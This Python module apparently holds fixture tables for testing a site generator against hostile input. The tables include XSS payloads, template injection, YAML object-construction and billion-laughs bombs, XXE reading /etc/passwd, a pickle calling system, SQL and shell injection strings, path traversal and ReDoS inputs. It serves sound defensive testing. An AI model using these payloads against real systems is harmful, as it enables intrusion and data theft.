"""Tables of what strangers put into a page or a file. Each says where its idea comes from; the words are ours."""

from __future__ import annotations

RAN = "window.ran=1"
"""What every script does that gets to run."""
HOST = "outside.example"
"""Whom everything asks that gets to ask. Source of the name: RFC 2606."""

TAGS = {
    "script": f"<script>{RAN}</script>",
    "script-upper": f"<SCRIPT\n>{RAN}</SCRIPT >",
    "script-host": f"<script src='https://{HOST}/a.js'></script>",
    "script-open": f"<script>{RAN};",
    "script-split": f"<scr<script></script>ipt>{RAN}</script>",
    "module": f"<script type='module'>{RAN}</script>",
    "rules": f'<script type="speculationrules">{{"prefetch": [{{"urls": ["https://{HOST}/"]}}]}}</script>',
    "img": f"<img src='none' onerror='{RAN}'>",
    "img-slash": f"<img/src/onerror={RAN}>",
    "img-host": f"<img src='//{HOST}/a.png' srcset='//{HOST}/b.png 2x'>",
    "svg": f"<svg onload='{RAN}'></svg>",
    "svg-script": f"<svg><script href='data:text/javascript,{RAN}'/></svg>",
    "svg-animate": f"<svg><a><animate attributeName='href' to='javascript:{RAN}'/><text>press</text></a></svg>",
    "math": f"<math><mi xlink:href='javascript:{RAN}'>press</mi></math>",
    "mutation": f"<noscript><p title='</noscript><img src onerror={RAN}>'>",
    "mutation-style": f"<svg><style><img title='</style><img src onerror={RAN}>'></svg>",
    "comment": f"<!--><img src onerror={RAN}>-->",
    "declaration": "a <![ b <!x c <? d ]]>",
    "cdata": f"<![CDATA[<img src onerror={RAN}>]]>",
    "frame": f"<iframe src='https://{HOST}/'></iframe>",
    "frame-inline": f"<iframe srcdoc='<script>parent.{RAN[7:]}</script>'></iframe>",
    "object": f"<object data='data:text/html,<script>{RAN}</script>'></object>",
    "embed": f"<embed src='//{HOST}/a'>",
    "base": f"<base href='https://{HOST}/'>",
    "refresh": f"<meta http-equiv='refresh' content='0; url=https://{HOST}/'>",
    "sheet": f"<link rel='stylesheet' href='//{HOST}/a.css'>",
    "style": f"<style>@import '//{HOST}/a.css'; * {{ display: none }}</style>",
    "style-attribute": f"<p style='position:fixed;inset:0;background:url(//{HOST}/a)'>over all</p>",
    "details": f"<details open ontoggle='{RAN}'><summary>more</summary></details>",
    "focus": f"<input autofocus onfocus='{RAN}'>",
    "media": f"<video autoplay src='//{HOST}/a' onerror='{RAN}'></video>",
    "form": f"<form action='https://{HOST}/'><input name='password'><button>Enter</button></form>",
    "link": f"<a href='javascript:{RAN}'>press</a>",
    "link-spaced": f"<a href=' java\tscript:{RAN}'>press</a>",
    "link-entity": f"<a href='&#x6A;avascript&colon;{RAN}'>press</a>",
    "link-data": f"<a href='data:text/html,<script>{RAN}</script>'>press</a>",
    "link-ping": f"<a href='https://example.org/' ping='//{HOST}/'>press</a>",
    "names": "<a id='__search'></a><img name='cookie'><form id='location'></form>",
    "quote": f'" onmouseover="{RAN}" \'',
    "layout": "</p></div></article></main></body></html><h1>outside of it</h1>",
    "plaintext": "<plaintext>",
    "template": f"<template><script>{RAN}</script></template>",
}
"""Source of the ideas: HTML Living Standard (13.2 parsing, 4.12 scripting); DOMPurify's tests name the classes
(mutation, clobbering); SVG 2 and MathML; Speculation Rules."""

MARKDOWN = {
    "link": f"[press](javascript:{RAN})",
    "link-entity": f"[press](&#106;avascript:{RAN})",
    "reference": f"[press][1]\n\n[1]: javascript:{RAN}",
    "autolink": f"<javascript:{RAN}>",
    "image": f"![x](https://{HOST}/a.png)",
    "image-title": f"![x](a.png \"x\" onerror='{RAN}')",
    "attributes": f"[x](https://example.org/){{: onclick='{RAN}' }}",
    "heading-id": "## Heading {#__search}",
    "html-block": f"<div markdown='1' onclick='{RAN}'>**x**</div>",
    "snippet": '--8<-- "../outside/secret.txt"',
    "snippet-root": '--8<-- "/etc/passwd"',
    "include": "{!../outside/secret.txt!} {% include '../outside/secret.txt' %}",
    "footnote": f"Said so[^1].\n\n[^1]: <img src onerror='{RAN}'>",
    "abbreviation": f"The ABC met.\n\n*[ABC]: '><img src onerror={RAN}>",
    "fence": f"```js title=\"<img src onerror='{RAN}'>\"\nx\n```",
    "mermaid": f'```mermaid\ngraph TD; A-->B; click A "javascript:{RAN}"\n```',
    "admonition": f"!!! note \"<img src onerror='{RAN}'>\"\n\n    text",
    "tabs": f"=== \"<img src onerror='{RAN}'>\"\n\n    text",
    "math": f"$\\href{{javascript:{RAN}}}{{x}}$",
    "contents": "[TOC]",
}
"""Source of the ideas: Python-Markdown and PyMdown Extensions, their documentation; KaTeX's `\\href`."""

TEMPLATES = {
    "config": "{{ config }}",
    "sum": "{{ 8191 * 7 }}",
    "class": "{{ ''.__class__.__mro__ }}",
    "include": "{% include 'main.html' %}",
    "open": "{{ open",
    "open-block": "{% if open",
    "comment": "{# hidden #}",
    "percent": "%(x)s %s {0} {x}",
    "shell": "$(id) `id` ${HOME}",
    "other": "<%= 8191 * 7 %> <?= 8191 * 7 ?>",
}
"""Source of the ideas: the syntax of Jinja, ERB, PHP, shells and Python's own formatting."""

PAGES = {
    "entities": ("<p>AT&amp;T &lt;tag&gt; &eacute; &nosuch; &amp;amp;</p>", "AT&T <tag> é &nosuch; &amp;"),
    "code": ('<pre><code>if (a &lt; b) { c = "&lt;d&gt;"; }</code></pre>', 'if (a < b) { c = "<d>"; }'),
    "hidden": ("<p hidden>unseen</p><p style='display:none'>unseen</p><p>seen words</p>", "seen words"),
    "list": ("<ol><li>first demand</li><li>second demand</li></ol>", "first demand", "second demand"),
    "quote": ("<blockquote><p>quoted words</p></blockquote>", "quoted words"),
    "nested": ("<div>" * 400 + "<p>deep words of the page</p>" + "</div>" * 400, "deep words of the page"),
    "soup": ("<p><b><i>crossed</b></i> tags <p>and <table>loose <tr>cells", "crossed"),
    "links": ("<p><a href='//x.example/'>one</a> <a href='/../../etc/passwd'>two</a> words</p>", "one", "two"),
    "markdown": ("<p># no heading</p><p>1. no list</p>", "# no heading", "1. no list"),
}
"""Page body, then what must be shown. Source of the ideas: HTML Living Standard, 13.2.6 (adoption agency algorithm)."""

FIELDS = ("title", "authors", "description", "tags", "source_url", "publisher")
FIELD_VALUES = {
    "script": f"One <script>{RAN}</script> two",
    "attribute": f'One\' " onmouseover="{RAN}" two',
    "script-end": f"One</script></title></textarea><img src onerror={RAN}> two",
    "comment": "One <!-- <script> two",
    "link": f"javascript:{RAN}",
    "jinja": "One {{ config.site_name }} two",
    "marks": "One *b* _c_ `d` [e](f) &lt;g&gt; two",
    "formula": '=HYPERLINK("https://outside.example/")',
    "direction": "One \u202eowt\u202c \u2066three",
    "lines": "One\n\n# two\n---\nthree: four",
}
"""Source of the ideas: HTML Living Standard 4.12.1.3 (restrictions on scripts), OWASP on CSV injection, UAX #9."""

META_KEYS = {
    "template": f"template: redirect.html\nlocation: 'javascript:{RAN}'",
    "template-path": "template: ../../../../etc/passwd",
    "search": "search:\n  boost: .nan",
    "search-exclude": "search:\n  exclude: true",
    "hide": "hide: [navigation, toc, footer]",
    "icon": "icon: ../../../../etc/passwd",
    "status": f"status: '\" onclick=\"{RAN}'",
    "slug": "slug: ../../written-by-seed",
    "url": f"url: 'javascript:{RAN}'\ncanonical_url: 'javascript:{RAN}'",
    "aliases": "aliases: ['../../x', '//outside.example/', 'index.html', '404.html', 'assets/js/archive.js']",
    "revision": f"git_revision_date_localized: '<img src onerror={RAN}>'",
    "scripts": f"extra_javascript: ['https://{HOST}/a.js']\nhooks: [evil.py]",
    "id": "id: ../../x\nseed: ../outside/secret.txt\nsha256: x",
    "extra": f"extra:\n  '<img src onerror={RAN}>': '<script>{RAN}</script>'\n  b: '{{{{ config }}}}'",
    "captions": f"captions:\n  - text: '<img src onerror={RAN}>'\n    credit: '=1+1'",
    "draft": "draft: true\npublished: false",
}
"""Source of the ideas: what MkDocs 1.6 and Material 9.8 read from `page.meta`, in their templates and plugins."""

YAML = {
    "object": "title: !!python/object/apply:os.system ['touch written-by-seed']",
    "name": "title: !!python/name:os.system",
    "environment": "title: !ENV PRESSMARK_TEST_SECRET",
    "include": "title: !include ../outside/secret.txt",
    "unknown-tag": "title: !x y",
    "bomb": "a: &a [x, x, x, x, x, x, x, x]\n"
    + "\n".join(f"{b}: &{b} [{', '.join([f'*{a}'] * 8)}]" for a, b in zip("abcdefg", "bcdefgh", strict=True))
    + "\ntags: *h",
    "itself": "tags: &t [*t]",
    "twice": "title: One\ntitle: Two",
    "list": "title: [a, b]",
    "mapping": "title: {a: b}",
    "number": "title: 1e999",
    "nan": "title: .nan\ndate: .inf",
    "yes": "title: yes",
    "none": "title: null",
    "day": "title: 2016-05-04",
    "sixty": "title: 12:30:45",
    "binary": "title: !!binary aGFyYm91cg==",
    "colon": "title: Wall: what next",
    "hash": "title: Wall #2 of three",
    "open": 'title: "open',
    "at": "title: @wall said",
    "tab": "title:\tWall\n\tx: y",
    "block": f"title: |\n  one\n  <script>{RAN}</script>",
    "tags-text": "title: Tags\ntags: harbour, wall",
    "tags-mixed": "title: Tags\ntags: [1, null, true, 2016-05-04, [x], {y: z}, '']",
    "tags-paths": "title: Tags\ntags: ['..', '.', a/b, 'a\\b', '#', '?', '%2e%2e', CON]",
    "tags-case": "title: Tags\ntags: [Wall, wall, WALL, ' wall ']",
    "tags-many": "title: Tags\ntags: [" + ", ".join(f"wall{i}" for i in range(40)) + "]",
    "no-mapping": "- a\n- b",
    "scalar": "only a text",
    "empty": "",
    "merge": "a: &a {title: Merged}\n<<: *a",
    "deep": "title: Deep\na: " + "[" * 1_000 + "]" * 1_000,
    "long-key": "k" * 2_000 + ": v\ntitle: Long",
    "directive": "%YAML 9.9\n---\ntitle: Directive",
    "end": "title: One\n...\ntitle: Two",
    "surrogate": 'title: "a\\ud800b"',
    "control": 'title: "a\\x1b[31mb\\x07c\\x00d"',
    "digits": "title: Digits\nn: " + "9" * 5_000,
}
"""Source of the ideas: YAML 1.1 and 1.2, PyYAML's constructors, the "billion laughs", the Norway problem."""

DATES = {
    "february": "2016-02-31",
    "month": "2016-13-01",
    "zero": "2016-00-00",
    "year-zero": "0000-01-01",
    "year-large": "99999-01-01",
    "before": "-0044-03-15",
    "hour": "2016-05-04T25:61:61Z",
    "zone": "2016-05-04T10:00:00+99:99",
    "leap": "2016-12-31T23:59:60Z",
    "seconds": "1462320000",
    "either": "02/03/2016",
    "script": f"'<script>{RAN}</script>'",
    "list": "[2016-05-04]",
    "arabic": "٢٠١٦-٠٥-٠٤",
}
"""Source of the ideas: ISO 8601-1:2019, RFC 3339, leap second of 2016."""

LITERAL = {
    "stars": "2 * 3 * 4 is 24",
    "star-line": "* a star begins this line",
    "under": "the file __init__ and _config_",
    "hash": "# a hash begins this line",
    "hash-end": "a heading ends so ##",
    "numbered": "1. water was the first demand",
    "year": "1986. What a year",
    "plus": "+44 20 is the number",
    "minus": "- 5 degrees at night",
    "quote": "> 600 people came",
    "pipe": "a | b | c",
    "table": "a | b\n--- | ---\n1 | 2",
    "tick": "they ran `ls` twice",
    "fence": "```\nwords in a fence\n```",
    "tilde": "~~struck~~ and H~2~O",
    "equals": "Sum\n=====",
    "rule": "* * *",
    "indented": "    four spaces before",
    "angle": "the tag <angle> was printed",
    "compare": "x<y and y>z if a<b",
    "address": "<editor@example.org> or <https://example.org>",
    "ampersand": "AT&T, R&D and &amp; and &copy; and &#65;",
    "bracket": "[1] the first, [sic] the second, [x] the third",
    "link": "[text](https://example.org/a_b)",
    "reference": '[ref]: https://example.org/ "Title"',
    "footnote": "[^1]: it looks like a note",
    "abbreviation": "*[ABC]: it looks like one",
    "definition": "Term\n: its meaning",
    "admonition": '!!! note "Title"',
    "tab": '=== "Tab"',
    "dollar": "costs $5 or $x$ or $$y$$",
    "backslash": "C:\\new\\table\\*.txt and \\* and \\\\",
    "emoji": ":smile: and :material-home:",
    "attributes": "a line {: .class #id }",
    "contents": "[TOC]",
    "comment": "<!-- a remark -->",
    "closing": "</p> </div> were typed",
    "image": "![alt](a.png)",
    "wiki": "[[Other Page]]",
    "rest": ".. note:: words",
    "braces": "{variable} {{double}} ${shell}",
    "words": "NULL null None undefined NaN true",
    "json": '{"a": [1, 2]}',
    "key": "Author: of this line",
    "groups": r"\1 \g<1> $1 $& %s",
    "entity-tag": "&lt;script&gt; &#x3c;b&#x3e;",
    "keys": "press ++ctrl+c++ now",
    "critic": "{++more++} {--less--}",
    "smart": "\"a\" 'b' ... -- --- (c)",
    "fence-front": "---\ntitle: in the middle\n---",
}
"""Source of the ideas: the syntax of Python-Markdown, PyMdown Extensions, CommonMark, MediaWiki, reStructuredText."""

NAUGHTY = {
    "reserved": ("undefined", "null", "(null)", "True", "FALSE", "then", "constructor", "__proto__", "hasOwnProperty"),
    "numbers": ("0", "-1", "1E+02", "0xabad1dea", "1/0", "NaN", "-Infinity", "1,000,000.00", "1 000,00", "08", "١٢٣"),
    "signs": ('<>?:"{}|_+', ",./;'[]\\-=", "!@#$%^&*()`~", "Ω≈ç√∫˜µ≤", "¡™£¢∞§¶•ªº–≠", "⅛⅜⅝⅞", "ЁЂЃЄЅІЇЈ", "⁰⁴⁵₀₁₂"),
    "quotes": ("'", "''", '""', "'\"'", "'`'", "“‘’”"),
    "letters": ("田中さん", "사회과학원", "찦차", "ﬀ ﬁ ﬂ", "Ⱥ ȺȾ", "ヽ༼ຈل͜ຈ༽ﾉ", "(｡◕ ∀ ◕｡)", "__ﾛ(,_,*)"),
    "pictures": ("😍", "👩🏽", "👨‍🦰 👨🏿‍🦰", "👾 🙇 💁 🙅", "🐵 🙈 🙉", "❤️ 💔", "🇺🇸🇷🇺🇸", "1️⃣ 2️⃣"),
    "direction": ("ثم نفس سقطت", "בְּרֵאשִׁית", "هُنَا", "الكل in the middle 123"),
    "stacked": ("Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮", "T̖o͢ ̗i̟n̗v̥o̖k̵e̜"),
    "turned": ("˙ɐnbᴉlɐ ɐuƃɐɯ", "𝐓𝐡𝐞 𝐪𝐮𝐢𝐜𝐤", "🅃🄷🄴 🅀", "⒯⒣⒠ ⒬"),
    "queries": ("1;DROP TABLE users", "1'; DROP TABLE users-- 1", "' OR 1=1 -- 1", "' OR '1'='1", "%", "_", "a* OR b"),
    "commands": ("--version", "$USER", "/dev/null; touch hurt; echo", "`touch hurt`", "$(touch hurt)", "|dir"),
    "includes": ('<!ENTITY x SYSTEM "file:///etc/hosts">', "$HOME", "%d%s%n", "{0}", "%*.*s", "../../etc/hosts%00"),
    "old": ("() { 0; }; touch hurt", "+++ATH0", "CON", "PRN", "COM1", "<% 7 * 7 %>", "http://a/%%30%30"),
    "terminal": ("The boats are \x1b[0;31mred\x1b[0m", "A gull \x1b[20Cfar away", "A lamp \x1b[8mput out", "\x07 rang"),
    "meant-well": ("Essex Analysts Society", "Cockermouth Choir", "Dick Sextant of Scunthorpe"),
}
"""Kinds of strings as in the Big List of Naughty Strings (github.com/minimaxir/big-list-of-naughty-strings, MIT)."""

ENCODED = {
    "nul": (b"a\x00b", ()),
    "escape": (b"a \x1b[31mred\x1b[0m \x07 \x7f b end of it", ("end of it",)),
    "c1": ("a \u009b31m b end of it".encode(), ("end of it",)),
    "broken": (b"a \xff\xfe\xfa b end of it", ()),
    "overlong": (b"a \xc0\xbcscript\xc0\xbe b", ()),
    "surrogates": (b"a \xed\xa0\xbd\xed\xb8\x80 b", ()),
    "cut": (b"a \xe2\x82", ()),
    "mixed": ("é ".encode() + b"\x93quoted\x94 end of it", ("end of it",)),
    "non-character": ("a \ufffe \uffff end of it".encode(), ("end of it",)),
    "override": ("a \u202eb\u202c c \u202e\u2067 end of it".encode(), ("end of it",)),
    "zero-width": ("ze\u200bro\u2060 so\u00adft end of it".encode(), ("end of it",)),
    "emoji": (
        "\U0001f468\u200d\U0001f469 \U0001f1f8\U0001f1fe end of it".encode(),
        ("\U0001f1f8\U0001f1fe end of it",),
    ),
    "marks": (("z" + "\u0301" * 300 + " end of it").encode(), ("end of it",)),
    "decomposed": ("Cafe\u0301 end of it".encode(), ("Café end of it",)),
    "private": ("a \ue000 b end of it".encode(), ("end of it",)),
    "tags": (("a " + "".join(chr(0xE0000 + ord(c)) for c in "obey") + " end of it").encode(), ("end of it",)),
    "stash": (b"a \x02klzzwxh:0001\x03 \x02amp\x03 end of it", ("end of it",)),
    "mojibake": ("donâ€™t end of it".encode(), ("don’t end of it",)),
}
"""What stands in the middle, and what must be shown. Source of the ideas: Unicode 16 (UAX #9, UTR #36), RFC 3629,
ECMA-48, the placeholders of Python-Markdown."""

TITLES = {
    "up": "..",
    "slash": "/",
    "path": "../../written-by-seed",
    "drive": "C:\\x\\y",
    "dashes": "---",
    "emoji": "\U0001f600\U0001f600",
    "arabic": "تقرير الميناء",
    "signs": "!!! ??? ...",
    "index": "index",
    "not-found": "404",
    "device": "CON",
    "search": "Search",
    "assets": "assets",
    "data": "data",
    "long": "Harbour wall " * 60,
    "one-word": "x" * 500,
    "null": "null",
    "prototype": "__proto__",
    "constructor": "constructor",
    "address": "https://example.org/a?b=c#d",
    "script": f"javascript:{RAN}",
    "encoded": "%2e%2e%2f",
    "tags": "<b>bold</b> &amp; more",
    "number": "2016",
    "zero": "0",
    "marks": "\u0301\u0301",
    "override": "\u202eegdirb\u202c bridge",
    "hash": "#1 in town",
    "sitemap": "sitemap.xml",
    "turkish": "İstanbul ışık",
    "german": "STRASSE Straße",
}
"""Source of the ideas: reserved names of Windows and of this site, JavaScript's prototypes, RFC 3986, case folding."""

ENTITIES = {
    "expression": "General A.*(B+)[C]{2}|$ met General A.*(B+)[C]{2}|$ in Westmouth.",
    "groups": r"Colonel \1 Brown met Colonel \g<0> Brown in Westmouth.",
    "tags": f"Mr. Brown <img src onerror={RAN}> Jones met Mr. Brown <img src onerror={RAN}> Jones.",
    "nested": "The United Nations Security Council and the United Nations and the Security Council met.",
    "prototype": "Minister Constructor Prototype met Minister __proto__ and Minister Valueof Tostring.",
    "long": "Minister " + "Verylongname " * 30 + "spoke.",
    "marks": "General *Star* met General _Under_ and General [Bracket] in Westmouth.",
    "quotes": "Abu \"the 'Axe' Omar met Abu 'Ali' Omar in Westmouth.",
    "dots": "The U.S. and the U.N. met St. John's and O'Brien-Smith Jr. there.",
    "scripts": "习近平 met プーチン and Башар Асад there.",
}
"""Source of the ideas: regular expressions and their replacement strings, JavaScript's objects, nested names."""

SIZES = {
    "empty.txt": b"",
    "spaces.txt": b"  \t \n ",
    "mark.txt": b"\xef\xbb\xbf",
    "zero-width.txt": "\u200b\ufeff".encode(),
    "control.txt": b"\x01\x02\x03",
    "fences.md": b"---\n---\n",
    "comment.html": b"<!-- -->",
}
"""What holds nothing to read. Source of the idea: what is left when saving a page fails."""

HEAVY = {
    "line": "harbour " * 30_000,
    "paragraphs": "\n\n".join(f"Paragraph {number} was read." for number in range(2_000)),
    "word": "a" * 100_000,
}
"""Source of the idea: pages without line ends, listings, encoded pictures."""

PATHOLOGICAL = {
    "brackets": "[" * 20_000,
    "links": "[a](" * 5_000,
    "stars": "*a **a " * 5_000,
    "ticks": " ".join("`" * number for number in range(1, 150)),
    "less": "<" * 20_000,
    "comments": "<!--" * 5_000,
    "quotes": ">" * 5_000 + " x",
    "numbers": "1. " * 2_000 + "x",
    "spaces": "a" + " " * 20_000 + "b",
    "addresses": "http://" * 5_000,
    "mail": "a@" * 10_000,
    "dates": "12 January 2016, " * 3_000,
    "capitals": "Aaa Bbb " * 10_000,
    "marks": "a" + "\u0301" * 20_000,
    "by": "By " * 10_000,
    "digits": "1" * 20_000,
}
"""What takes quadratic time where nobody thought of it. Source of the ideas: CWE-1333, repairs of Markdown parsers."""

BINARY = {
    "png.txt": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
    "jpeg.txt": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(256)),
    "pdf.txt": b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF",
    "program.txt": b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 4,
    "pickle.txt": b"\x80\x04\x95\x0f\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.",
    "database.txt": b"SQLite format 3\x00" + b"\x00" * 200,
    "sound.txt": b"ID3\x03\x00" + b"\xff\xfb\x90" * 100,
    "office.txt": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 300,
    "packed.txt": b"\x1f\x8b\x08\x00" + b"\x00" * 30,
    "picture.html": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
    "noise.txt": bytes((number * 197 + 91) % 256 for number in range(8_000)),
}
"""First bytes of formats that are no text. Source: file(1), the formats' specifications."""

XML = {
    "entity.txt": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x; WORD</a>',
    "entity.html": '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    "<html><body><p>&x; WORD</p></body></html>",
    "laughs.html": '<!DOCTYPE html [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    "<html><body><p>&b; WORD</p></body></html>",
    "sheet.html": f'<?xml-stylesheet href="//{HOST}/a.xsl"?><html><body><p>WORD</p></body></html>',
    "svg.html": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RAN}"><text>WORD</text></svg>',
}
"""Source of the ideas: XML 1.0 (external and nested entities), XSLT, SVG 2."""

FILE_NAMES = (
    "with space.txt", " before.txt", "after .txt", "two..dots.txt", "...txt", "%2e%2e%2f.txt", "it's.txt", 'a"b.txt',
    "a`b.txt", "a;b.txt", "$(id).txt", "a&amp.txt", "a#b.txt", "a?b=c.txt", "100%.txt", "a+b.txt", "a*b.txt", "a|b.txt",
    "a<b>.txt", f"<img src onerror={RAN.replace('/', '')}>.txt", "javascript:x.txt", "C:x.txt", "{{ config }}.txt",
    "[a](b).txt", "_a_.txt", "=a.txt", "-rf.txt", "--help.txt", "@a.txt", ".hidden.txt", "UPPER.TXT", "Case.txt",
    "case.txt", "CON.txt", "nul.txt", "new\nline.txt", "tab\there.txt", "esc\x1b[31m.txt",
    "cr\rINFO    -  All is well.txt", "nl\nERROR   -  forged.txt", "отчёт.txt", "تقرير.txt", "報告.txt",
    "\U0001f600.txt", "caf\u00e9.txt", "rtl\u202etxt.txt", "zero\u200b.txt", "a" * 240 + ".txt", "é" * 120 + ".txt",
    b"bytes\xff\xfe.txt".decode("utf-8", "surrogateescape"), "index.txt", "index.html", "404.txt", "search.txt",
    "README.md", "noending", "page.html.txt", "__proto__.txt", "constructor.txt", "2016.txt", "null.txt",
)  # fmt: skip
"""Source of the ideas: POSIX (all bytes but two), Windows' reserved names, RFC 3986, UTR #36, terminals' codes."""
